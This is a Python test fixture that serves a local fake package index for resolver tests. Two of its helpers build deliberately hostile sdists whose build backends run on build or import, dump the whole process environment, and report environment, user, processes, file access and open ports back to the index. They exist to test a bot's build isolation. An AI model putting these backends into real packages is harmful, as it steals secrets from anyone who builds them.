"""A Python package index on 127.0.0.1 (PEP 503 simple pages, PEP 658 metadata), serving
wheels and sdists the tests build: small, real archives with the tags the test asks for.

    index = PackageIndex().start()
    index.add_wheel("accel", "2.0", tag="cp311-cp311-manylinux_2_17_x86_64", requires=["purelib"])
    index.add_sdist("slowpkg", "1.0")
    ... uv resolves against index.simple_url ...
"""

from __future__ import annotations

import asyncio
import base64
import email.parser
import functools
import hashlib
import html
import io
import json
import re
import tarfile
import threading
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from aiohttp import web
from packaging.utils import canonicalize_name

from fakes.server import ThreadedServer


@dataclass
class Distribution:
    filename: str
    data: bytes
    metadata: bytes  # the core metadata (METADATA / PKG-INFO)
    requires_python: str | None = None
    upload_time: str | None = None  # PEP 700, on JSON pages: "2026-12-03T10:00:00.000000Z"

    @functools.cached_property
    def sha256(self) -> str:  # once: a page lists it on every request, as a real index would
        return hashlib.sha256(self.data).hexdigest()


@dataclass
class Project:
    files: list[Distribution] = field(default_factory=list)


def _metadata(
    name: str, version: str, requires: list[str], requires_python: str | None, spec: str
) -> str:
    lines = [f"Metadata-Version: {spec}", f"Name: {name}", f"Version: {version}"]
    if requires_python:
        lines.append(f"Requires-Python: {requires_python}")
    extras = sorted(set(re.findall(r"""extra\s*==\s*['"]([^'"]+)['"]""", " ".join(requires))))
    lines += [f"Provides-Extra: {extra}" for extra in extras]
    lines += [f"Requires-Dist: {requirement}" for requirement in requires]
    return "\n".join(lines) + "\n"


class PackageIndex(ThreadedServer):
    name = "package-index"

    def __init__(
        self, *, credentials: tuple[str, str] | None = None, redirect_to: str | None = None
    ) -> None:
        self.projects: dict[str, Project] = {}
        self.requests: list[str] = []
        self.authorizations: list[str] = []  # the Authorization header of each request
        self.credentials = credentials  # (user, password) a private index requires
        self.redirect_to = redirect_to  # a base URL every project page redirects to
        self.delay = 0.0  # seconds each project page takes (to catch a resolver mid-run)
        self.json_pages = False  # answer PEP 691 JSON to clients that ask for it
        self.failing_pages = 0  # the next project pages answered 503
        self.cache_headers = True  # False: pages say nothing of caching (as many mirrors)
        self._lock = threading.Lock()
        app = web.Application(middlewares=[self._guard])
        self.reports: list[dict] = []  # what buildable sdists' backends saw (`_report`)
        app.router.add_get("/report", self._report)
        app.router.add_get("/simple/", self._root)
        app.router.add_get("/simple/{project}/", self._project)
        app.router.add_get("/files/{filename}", self._file)
        super().__init__(app)

    @property
    def simple_url(self) -> str:
        return f"{self.url}/simple"

    # ---- building distributions -------------------------------------------------------

    def add_wheel(
        self,
        name: str,
        version: str,
        *,
        tag: str = "py3-none-any",
        requires: list[str] | None = None,
        requires_python: str | None = None,
    ) -> Distribution:
        """A wheel whose one module is `name` (a real zip with METADATA, WHEEL and RECORD)."""
        dist = canonicalize_name(name).replace("-", "_")
        metadata = _metadata(name, version, requires or [], requires_python, "2.1").encode()
        info = f"{dist}-{version}.dist-info"
        files = {
            f"{dist}/__init__.py": f"VERSION = {version!r}\n".encode(),
            f"{info}/METADATA": metadata,
            f"{info}/WHEEL": (
                f"Wheel-Version: 1.0\nGenerator: thoth-bot-tests\n"
                f"Root-Is-Purelib: {'true' if tag.endswith('none-any') else 'false'}\nTag: {tag}\n"
            ).encode(),
        }
        record = (
            "".join(
                f"{path},sha256={hashlib.sha256(data).hexdigest()},{len(data)}\n"
                for path, data in files.items()
            )
            + f"{info}/RECORD,,\n"
        )
        files[f"{info}/RECORD"] = record.encode()
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for path, data in files.items():
                archive.writestr(path, data)
        return self._add(
            name,
            Distribution(
                f"{dist}-{version}-{tag}.whl", buffer.getvalue(), metadata, requires_python
            ),
        )

    def add_sdist(
        self,
        name: str,
        version: str,
        *,
        requires: list[str] | None = None,
        requires_python: str | None = None,
    ) -> Distribution:
        """An sdist with static metadata (PKG-INFO 2.2, a [project] table): resolvable without
        building, as on PyPI for modern packages."""
        dist = canonicalize_name(name).replace("-", "_")
        metadata = _metadata(name, version, requires or [], requires_python, "2.2").encode()
        dependencies = ", ".join(f'"{requirement}"' for requirement in requires or [])
        pyproject = (
            '[build-system]\nrequires = ["setuptools>=61"]\n'
            'build-backend = "setuptools.build_meta"\n\n'
            f'[project]\nname = "{name}"\nversion = "{version}"\n'
            f"dependencies = [{dependencies}]\n"
        ).encode()
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            for path, data in {
                "PKG-INFO": metadata,
                "pyproject.toml": pyproject,
                f"{dist}/__init__.py": f"VERSION = {version!r}\n".encode(),
            }.items():
                entry = tarfile.TarInfo(f"{dist}-{version}/{path}")
                entry.size = len(data)
                archive.addfile(entry, io.BytesIO(data))
        return self._add(
            name,
            Distribution(f"{dist}-{version}.tar.gz", buffer.getvalue(), metadata, requires_python),
        )

    def add_file(self, path: Path) -> Distribution:
        """A wheel from disk (bench/advise.py serves real ones), with its METADATA for PEP 658."""
        data = path.read_bytes()
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            [metadata_path] = [
                name
                for name in archive.namelist()
                if name.endswith(".dist-info/METADATA") and name.count("/") == 1
            ]
            metadata = archive.read(metadata_path)
        fields = email.parser.BytesHeaderParser().parsebytes(metadata)
        distribution = Distribution(path.name, data, metadata, fields.get("Requires-Python"))
        return self._add(str(fields["Name"]), distribution)

    def _add(self, name: str, distribution: Distribution) -> Distribution:
        with self._lock:
            project = self.projects.setdefault(canonicalize_name(name), Project())
            project.files = [f for f in project.files if f.filename != distribution.filename]
            project.files.append(distribution)
        return distribution

    def hashes(self, name: str, version: str) -> set[str]:
        """sha256 of every file of one release."""
        dist = canonicalize_name(name).replace("-", "_")
        return {
            f"sha256:{f.sha256}"
            for f in self.projects[canonicalize_name(name)].files
            if f.filename.startswith(f"{dist}-{version}-")
            or f.filename == f"{dist}-{version}.tar.gz"
        }

    # ---- serving ----------------------------------------------------------------------

    @web.middleware
    async def _guard(self, request: web.Request, handler):  # type: ignore[no-untyped-def]
        """Records every request's credentials; a private index refuses the wrong ones."""
        self.authorizations.append(request.headers.get("Authorization", ""))
        if self.credentials is not None:
            pair = ":".join(self.credentials).encode()
            expected = "Basic " + base64.b64encode(pair).decode()
            if request.headers.get("Authorization") != expected:
                self.requests.append(f"401 {request.path}")
                raise web.HTTPUnauthorized(headers={"WWW-Authenticate": 'Basic realm="index"'})
        if self.redirect_to is not None:
            self.requests.append(f"302 {request.path}")
            raise web.HTTPFound(self.redirect_to.rstrip("/") + request.path)
        return await handler(request)

    def add_hostile_sdist(self, name: str, version: str, marker: Path) -> Distribution:
        """An sdist whose build writes `marker` (with the environment it saw, the secrets an
        attacker wants), prints that environment and fails: what a fork's Pipfile could make a
        bot build. Its backend is in the archive (PEP 517 `backend-path`, no requirements) and
        its metadata is dynamic, so a resolver that may build runs it just to read metadata."""
        dist = canonicalize_name(name).replace("-", "_")
        metadata = _metadata(name, version, [], None, "2.1").encode()
        backend = (
            "import json, os, pathlib, sys\n"
            f"pathlib.Path({str(marker)!r}).write_text(json.dumps(dict(os.environ)))\n"
            "print(json.dumps(dict(os.environ)), file=sys.stderr)\n"
            "raise SystemExit('build failed on purpose')\n"
        ).encode()
        pyproject = PYPROJECT_IN_TREE_BACKEND
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            files = {"PKG-INFO": metadata, "pyproject.toml": pyproject, "backend.py": backend}
            for path, data in files.items():
                entry = tarfile.TarInfo(f"{dist}-{version}/{path}")
                entry.size = len(data)
                archive.addfile(entry, io.BytesIO(data))
        return self._add(
            name, Distribution(f"{dist}-{version}.tar.gz", buffer.getvalue(), metadata)
        )

    def add_buildable_sdist(
        self,
        name: str,
        version: str,
        *,
        files: list[str] = (),
        connect: list[int] = (),
        sources: dict[str, bytes] | None = None,
    ) -> Distribution:
        """An sdist with dynamic metadata and its own PEP 517 backend that builds a real wheel.
        Its backend, when it runs, reports what it sees to this index (`reports`): its
        environment, its user, the processes it can see, whether it can read `files` and
        connect to these ports of 127.0.0.1. The report goes out through the HTTP proxy of its
        environment, as any build's requests would. `sources`: more files in the archive
        (a C extension's, say)."""
        dist = canonicalize_name(name).replace("-", "_")
        metadata = _metadata(name, version, [], None, "2.1")
        backend = BUILDABLE_BACKEND.format(
            dist=dist,
            metadata=metadata,
            report=f"{self.url}/report",
            files=list(files),
            connect=list(connect),
        ).encode()
        pyproject = PYPROJECT_IN_TREE_BACKEND
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            contents = {"PKG-INFO": metadata.encode(), "pyproject.toml": pyproject}
            contents["backend.py"] = backend
            contents.update(sources or {})
            for path, data in contents.items():
                entry = tarfile.TarInfo(f"{dist}-{version}/{path}")
                entry.size = len(data)
                archive.addfile(entry, io.BytesIO(data))
        return self._add(
            name, Distribution(f"{dist}-{version}.tar.gz", buffer.getvalue(), metadata.encode())
        )

    async def _report(self, request: web.Request) -> web.Response:
        data = base64.urlsafe_b64decode(request.query["d"].encode())
        self.reports.append(json.loads(data))
        return web.Response(text="ok")

    async def _root(self, request: web.Request) -> web.Response:
        links = "".join(f'<a href="/simple/{name}/">{name}</a>\n' for name in sorted(self.projects))
        return web.Response(
            text=f"<!DOCTYPE html><html><body>{links}</body></html>", content_type="text/html"
        )

    async def _project(self, request: web.Request) -> web.Response:
        name = canonicalize_name(request.match_info["project"])
        self.requests.append(f"simple/{name}")
        if self.delay:
            await asyncio.sleep(self.delay)
        project = self.projects.get(name)
        if project is None:
            raise web.HTTPNotFound()
        if self.failing_pages:
            self.failing_pages -= 1
            raise web.HTTPServiceUnavailable()
        if self.json_pages and "application/vnd.pypi.simple.v1+json" in request.headers.get(
            "Accept", ""
        ):
            files = [
                {
                    "filename": f.filename,
                    "url": f"/files/{f.filename}",
                    "hashes": {"sha256": f.sha256},
                    **({"requires-python": f.requires_python} if f.requires_python else {}),
                    **({"upload-time": f.upload_time} if f.upload_time else {}),
                }
                for f in project.files
            ]
            return web.json_response(
                {"meta": {"api-version": "1.1"}, "name": name, "files": files},
                content_type="application/vnd.pypi.simple.v1+json",
            )
        links = []
        for f in project.files:
            attributes = f' data-core-metadata="sha256={hashlib.sha256(f.metadata).hexdigest()}"'
            attributes += (
                f' data-dist-info-metadata="sha256={hashlib.sha256(f.metadata).hexdigest()}"'
            )
            if f.requires_python:
                attributes += f' data-requires-python="{html.escape(f.requires_python)}"'
            links.append(
                f'<a href="/files/{f.filename}#sha256={f.sha256}"{attributes}>{f.filename}</a>'
            )
        body = "<!DOCTYPE html><html><body>\n" + "\n".join(links) + "\n</body></html>"
        # As PyPI does: project pages may be reused for 10 minutes, files forever.
        caching = {"Cache-Control": "max-age=600, public"} if self.cache_headers else {}
        return web.Response(text=body, content_type="text/html", headers=caching)

    async def _file(self, request: web.Request) -> web.Response:
        filename = request.match_info["filename"]
        self.requests.append(f"files/{filename}")
        metadata = filename.endswith(".metadata")
        wanted = filename.removesuffix(".metadata")
        for project in self.projects.values():
            for f in project.files:
                if f.filename == wanted:
                    return web.Response(
                        body=f.metadata if metadata else f.data,
                        headers={"Cache-Control": "max-age=365000000, immutable, public"},
                    )
        raise web.HTTPNotFound()


# A pyproject.toml whose PEP 517 backend is `backend.py` in the sdist itself, needing nothing.
PYPROJECT_IN_TREE_BACKEND = (
    b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
)

# The backend of `add_buildable_sdist`: reports what it sees, then builds a one-module wheel.
BUILDABLE_BACKEND = """\
import base64, json, os, socket, urllib.request, zipfile

DIST, METADATA = {dist!r}, {metadata!r}
VERSION = METADATA.split("Version: ")[2].split()[0]
INFO = DIST + "-" + VERSION + ".dist-info"
WHEEL = "Wheel-Version: 1.0\\nGenerator: tests\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"


def _observe():
    seen = {{"env": dict(os.environ), "uid": os.getuid(), "files": {{}}, "connect": {{}}}}
    seen["processes"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    for path in {files!r}:
        try:
            with open(path, "rb") as handle:
                seen["files"][path] = len(handle.read())
        except OSError as error:
            seen["files"][path] = type(error).__name__
    for port in {connect!r}:
        probe = socket.socket()
        probe.settimeout(2)
        seen["connect"][str(port)] = probe.connect_ex(("127.0.0.1", port))
        probe.close()
    data = base64.urlsafe_b64encode(json.dumps(seen).encode()).decode()
    urllib.request.urlopen({report!r} + "?d=" + data, timeout=20).read()


_observe()


def get_requires_for_build_wheel(config_settings=None):
    return []


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    os.makedirs(os.path.join(metadata_directory, INFO))
    for name, text in (("METADATA", METADATA), ("WHEEL", WHEEL)):
        with open(os.path.join(metadata_directory, INFO, name), "w") as handle:
            handle.write(text)
    return INFO


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = DIST + "-" + VERSION + "-py3-none-any.whl"
    files = {{DIST + "/__init__.py": "", INFO + "/METADATA": METADATA, INFO + "/WHEEL": WHEEL}}
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
        record = "".join(path + ",,\\n" for path in [*files, INFO + "/RECORD"])
        archive.writestr(INFO + "/RECORD", record)
    return name
"""
